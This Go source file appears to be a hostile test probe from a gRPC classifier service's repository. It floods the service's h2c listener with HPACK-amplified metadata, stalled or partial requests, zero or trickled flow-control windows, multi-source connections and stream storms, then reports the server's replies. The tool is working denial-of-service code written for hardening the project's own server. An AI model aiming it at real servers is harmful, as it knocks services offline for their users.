// Command h2md10b opens HTTP/2 (h2c) connections to the gRPC listener and on
// each starts -streams calls carrying a valid token (-token, any scope) and
// about -md bytes of extra metadata each, then sends no message (or, with
// -partial, a gRPC frame header declaring 100 bytes and one byte of it), so
// every call waits for its request. With -index the padding is sent once as
// indexed HPACK entries and then referenced (a few bytes on the wire for each
// stream's decoded kilobytes). -timeout sets grpc-timeout. -refresh reopens
// a connection's streams as they end (RST or trailers), for -hold. Prints
// what the server answered.
package main

import (
	"bytes"
	"flag"
	"fmt"
	"log"
	"net"
	"os"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/classifierd/classifierd/tools/hostile/internal/probe"
)

var (
	addr    = flag.String("addr", "127.0.0.1:50051", "gRPC listener")
	path    = flag.String("path", "/classifier.v1.ClassifierService/GetIndexInfo", "method path")
	token   = flag.String("token", "", "bearer token")
	conns   = flag.Int("conns", 10, "connections")
	streams = flag.Int("streams", 64, "streams per connection")
	md      = flag.Int("md", 60000, "extra metadata bytes per stream")
	indexed = flag.Bool("index", true, "send padding as indexed HPACK entries, then reference them")
	partial = flag.Bool("partial", false, "send a frame header and one byte of the message")
	timeout = flag.String("timeout", "", "grpc-timeout value")
	extra   = flag.String("extra", "", "extra header name:value pairs, ;-separated")
	hold    = flag.Duration("hold", 30*time.Second, "how long")
	refresh = flag.Bool("refresh", false, "reopen streams as they end")
	empty   = flag.Bool("empty", false, "send an empty message and end the stream")
	msg     = flag.String("msg", "", "send this protobuf message (as text bytes, e.g. \\x0a\\x04big1 via printf) and end the stream")
	win0    = flag.Bool("win0", false, "announce SETTINGS_INITIAL_WINDOW_SIZE 0 and never open a window: answers cannot be sent")
	src     = flag.String("src", "", "source addresses to dial from, comma-separated (connections spread over them)")
	storm   = flag.Bool("storm", false, "after the streams, keep opening more (past the server's stream limit) until -hold")
	trickle = flag.Int("trickle", 0, "with -win0: bytes of window opened every -every, shared by the streams (answers read slowly, never quite stalled; 0: never)")
	every   = flag.Duration("every", 20*time.Second, "with -trickle: how often")
)

var answers probe.Tally

func count(k string) { answers.Count(k) }

func main() {
	flag.Parse()
	var wg sync.WaitGroup
	var srcs []string
	if *src != "" {
		srcs = strings.Split(*src, ",")
	}
	for c := 0; c < *conns; c++ {
		from := ""
		if len(srcs) > 0 {
			from = srcs[c%len(srcs)]
		}
		wg.Go(func() {
			if err := run(from); err != nil {
				count("conn: " + err.Error())
			}
		})
		time.Sleep(2 * time.Millisecond)
	}
	wg.Wait()
	answers.Print(os.Stdout, 8)
}

func run(from string) error {
	d := net.Dialer{}
	if from != "" {
		d.LocalAddr = &net.TCPAddr{IP: net.ParseIP(from)}
	}
	nc, err := d.Dial("tcp", *addr)
	if err != nil {
		return err
	}
	defer nc.Close()
	stop := time.Now().Add(*hold)
	_ = nc.SetDeadline(stop.Add(5 * time.Second))
	win := uint32(1 << 30)
	if *win0 {
		win = 0
	}
	fr, err := probe.Start(nc, 65536, http2.Setting{ID: http2.SettingInitialWindowSize, Val: win}, http2.Setting{ID: http2.SettingHeaderTableSize, Val: 65536})
	if err != nil {
		return err
	}
	fr.MaxHeaderListSize = 1 << 20
	var wmu sync.Mutex
	ended := make(chan uint32, 1024)
	done := make(chan struct{})
	go func() {
		defer close(done)
		_ = probe.ReadLoop(fr, &wmu, true, func(f http2.Frame) {
			switch f := f.(type) {
			case *http2.MetaHeadersFrame:
				for _, h := range f.Fields {
					if h.Name == "grpc-status" {
						msg := ""
						for _, g := range f.Fields {
							if g.Name == "grpc-message" {
								msg = g.Value
								if len(msg) > 40 {
									msg = msg[:40]
								}
							}
						}
						count("grpc-status=" + h.Value + " " + msg)
					}
				}
				if f.StreamEnded() {
					select {
					case ended <- f.StreamID:
					default:
					}
				}
			case *http2.RSTStreamFrame:
				count("rst " + f.ErrCode.String())
				select {
				case ended <- f.StreamID:
				default:
				}
			case *http2.GoAwayFrame:
				count("goaway " + f.ErrCode.String() + " " + string(f.DebugData()))
			}
		})
	}()
	var hb bytes.Buffer
	enc := hpack.NewEncoder(&hb)
	enc.SetMaxDynamicTableSizeLimit(4096)
	// padding fields: 15 entries of ~4000 bytes, x-pad-N.
	var pads []hpack.HeaderField
	for left, i := *md, 0; left > 0; i++ {
		n := min(left, 3900)
		pads = append(pads, hpack.HeaderField{Name: "x-pad-0", Value: strings.Repeat("a", n)})
		left -= n
	}
	next := uint32(1)
	open := func() error {
		hb.Reset()
		fields := append(probe.Head("POST", "http", *path, *addr, "application/grpc"), probe.Bearer(*token)...)
		if *timeout != "" {
			fields = append(fields, hpack.HeaderField{Name: "grpc-timeout", Value: *timeout})
		}
		if *extra != "" {
			for _, kv := range strings.Split(*extra, ";") {
				k, v, _ := strings.Cut(kv, ":")
				fields = append(fields, hpack.HeaderField{Name: k, Value: v})
			}
		}
		probe.WriteFields(enc, fields)
		for _, p := range pads {
			if !*indexed {
				p.Sensitive = true
			}
			_ = enc.WriteField(p)
		}
		id := next
		next += 2
		wmu.Lock()
		defer wmu.Unlock()
		blk := hb.Bytes()
		first := true
		for len(blk) > 0 || first {
			n := min(len(blk), 16384)
			var err error
			if first {
				err = fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: blk[:n], EndHeaders: n == len(blk)})
				first = false
			} else {
				err = fr.WriteContinuation(id, n == len(blk), blk[:n])
			}
			if err != nil {
				return err
			}
			blk = blk[n:]
		}
		if *empty {
			return fr.WriteData(id, true, []byte{0, 0, 0, 0, 0})
		}
		if *msg != "" {
			b := []byte{0, byte(len(*msg) >> 24), byte(len(*msg) >> 16), byte(len(*msg) >> 8), byte(len(*msg))}
			return fr.WriteData(id, true, append(b, *msg...))
		}
		if *partial {
			return fr.WriteData(id, false, []byte{0, 0, 0, 0, 100, 'x'})
		}
		return nil
	}
	for range *streams {
		if err := open(); err != nil {
			return err
		}
	}
	count("streams opened")
	if *trickle > 0 {
		go func() {
			for time.Now().Before(stop) {
				time.Sleep(*every)
				wmu.Lock()
				_ = fr.WriteWindowUpdate(0, uint32(*trickle))
				for id := uint32(1); id < next; id += 2 {
					_ = fr.WriteWindowUpdate(id, uint32(max(1, *trickle / *streams)))
				}
				wmu.Unlock()
				count("trickles")
			}
		}()
	}
	seen := map[uint32]bool{}
	for *storm && time.Now().Before(stop) {
		select {
		case <-done:
			return fmt.Errorf("closed by server")
		default:
		}
		if err := open(); err != nil {
			return err
		}
		count("storm streams")
	}
	for time.Now().Before(stop) {
		select {
		case <-done:
			return fmt.Errorf("closed by server")
		case id := <-ended:
			if seen[id] {
				continue
			}
			seen[id] = true
			if *refresh {
				if err := open(); err != nil {
					return err
				}
				count("reopened")
			}
		case <-time.After(100 * time.Millisecond):
		}
	}
	return nil
}

var _ = log.Printf
